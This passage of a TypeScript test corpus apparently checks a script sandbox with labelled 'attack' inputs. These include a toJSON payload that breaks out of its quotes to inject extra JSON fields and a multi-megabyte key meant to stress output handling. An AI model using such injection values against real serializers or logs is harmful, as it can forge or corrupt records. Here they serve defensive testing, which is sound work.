    error: /./,
    row: /./,
  },
  {
    name: 'text that breaks out of its quotes',
    script: attack('return { x: { toJSON: () => "\\"},{\\"n\\":9" }, \'a":1,"b\': "c" }'),
    row: /^\{"x":"\\"\},\{\\"n\\":9","a\\":1,\\"b":"c"\}$/,
  },
  { name: 'a very long key', script: attack('return { ["k".repeat(3e6)]: 1 }'), row: /^\{"kkk/ },
]

/** Every script. */
export const javascript: Corpus = {
  wall: [...files, ...processes, ...network],
  rest: [...escapes, ...time, ...memory, ...output, ...exits, ...results],
}
